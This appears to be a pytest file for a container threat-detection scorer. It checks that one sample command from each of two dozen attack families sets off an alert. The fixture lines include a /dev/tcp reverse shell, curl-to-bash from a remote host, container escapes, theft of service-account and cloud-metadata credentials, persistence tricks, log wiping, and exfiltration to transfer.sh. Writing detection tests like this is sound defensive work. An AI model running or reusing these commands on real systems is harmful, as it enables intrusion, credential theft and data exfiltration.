# SPDX-License-Identifier: Apache-2.0
"""The shipped set covers every family of deeds that it is said to cover: a plain deed of each is loud."""

import pytest
from corpus_reading import LOUD, record_of
from scorer_making import anomaly

from habitus_scorer.engines.rule import SHIPPED
from habitus_scorer.ruleset import RuleSet
from habitus_scorer.sigma.fields import Record

RULES = RuleSet([SHIPPED])
FAMILIES = {
    "miner by stratum": "/opt/x -o stratum+ssl://eu.pool.example:443 -u wallet",
    "miner by its pool": "@dns xmr.2miners.com node",
    "miner by its binary": "/usr/local/bin/xmrig --config=/etc/x.json",
    "reverse shell": "bash -c 'exec 5<>/dev/tcp/203.0.113.5/443; cat <&5 | sh >&5 2>&5'",
    "web shell": "[php-fpm] sh -c 'id; uname -a'",
    "download and run": "sh -c 'curl -fsSL http://203.0.113.5/i.sh | bash'",
    "fileless execution": "memfd:loader -d",
    "drift execution": "/dev/shm/.cache/run -q",
    "escape by release_agent": "@write /sys/fs/cgroup/memory/x/release_agent sh",
    "escape by a runtime's socket": "@connect-unix /run/containerd/containerd.sock sh",
    "escape by namespaces": "nsenter -t 1 -m -u -n -i sh",
    "escape by a mount": "mount /dev/vda1 /mnt/host",
    "escape by debugfs": "debugfs -w /dev/sda1",
    "service account": "@read /var/run/secrets/kubernetes.io/serviceaccount/token curl",
    "cloud metadata": "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/node",
    "credential search": "grep -rniE 'password|secret|aws_access_key' /etc /home /var/www",
    "persistence by cron": "@write /etc/cron.d/update sh",
    "persistence by an ssh key": "@write /root/.ssh/authorized_keys sh",
    "persistence by preload": "@write /etc/ld.so.preload sh",
    "log clearing": "sh -c 'cat /dev/null > /var/log/auth.log'",
    "recon": "nmap -sS -p- 10.0.0.0/16",
    "tunnel": "ssh -N -R 0.0.0.0:8022:127.0.0.1:22 x@203.0.113.5",
    "exfiltration": "curl -T /var/backups/db.tar.gz https://transfer.sh/db.tar.gz",
    "io_uring evasion": "@uring-read /etc/shadow node",
}


@pytest.mark.parametrize("line", FAMILIES.values(), ids=FAMILIES)
def test_a_plain_deed_of_each_family_is_loud(line: str):
    """Each alone raises an alert; the processor's jump, which no line tells, has its own test below."""
    assert max((rule.points for rule in RULES.hits(record_of(line))), default=0) >= LOUD


def test_a_processor_jump_is_found_and_alone_wakes_nobody():
    """It is told beside what else the container does: alone it may be a busy hour."""
    jump = Record(anomaly(class_="cpu", op="usage", reason="usage-jump"))
    [rule] = [rule for rule in RULES.hits(jump) if rule.id == "processor-jump"]
    assert 0 < rule.points < LOUD
